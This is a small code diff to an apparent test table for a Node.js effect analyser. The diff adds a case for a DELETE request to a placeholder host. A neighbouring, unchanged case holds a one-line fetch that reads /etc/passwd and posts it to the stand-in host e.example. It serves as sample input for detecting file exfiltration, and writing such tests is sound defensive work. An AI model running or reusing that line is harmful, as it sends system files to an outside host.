@@ -175,6 +175,11 @@ table("node", "files", [
     does: ["write /tmp/x = ab"],
   },
   {
+    why: "a request that takes something away",
+    code: "fetch('https://e.example/v1/x',{method:'DELETE'})",
+    does: ["send DELETE e.example", "receive e.example"],
+  },
+  {
     why: "a file sent",
     code: "fetch('https://e.example/',{method:'POST',body:require('fs').readFileSync('/etc/passwd')})",
     does: ["read /etc/passwd", "send e.example +/etc/passwd", "receive e.example"],
